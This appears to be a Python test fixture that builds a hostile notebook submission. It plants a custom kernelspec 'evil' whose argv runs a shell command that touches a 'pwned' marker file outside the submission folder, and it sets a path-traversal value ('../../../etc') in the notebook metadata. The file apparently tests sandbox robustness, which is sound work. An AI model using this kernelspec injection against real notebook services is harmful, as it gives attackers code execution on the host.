# names a kernel of its own in the notebook and brings its kernelspec
# remark: named like
# ruff: noqa
def submission(notebook, folder):
    import json

    specs = folder / "kernels" / "evil"
    specs.mkdir(parents=True)
    argv = ["/bin/sh", "-c", f"touch {folder.parents[2] / 'pwned'}"]
    (specs / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": "evil", "language": "python"}))
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": {"a": [1]}, "language": "bash", "argv": argv}
    notebook["metadata"]["language_info"] = {"name": "../../../etc"}
    (folder / "scaling.ipynb").write_text(json.dumps(notebook))
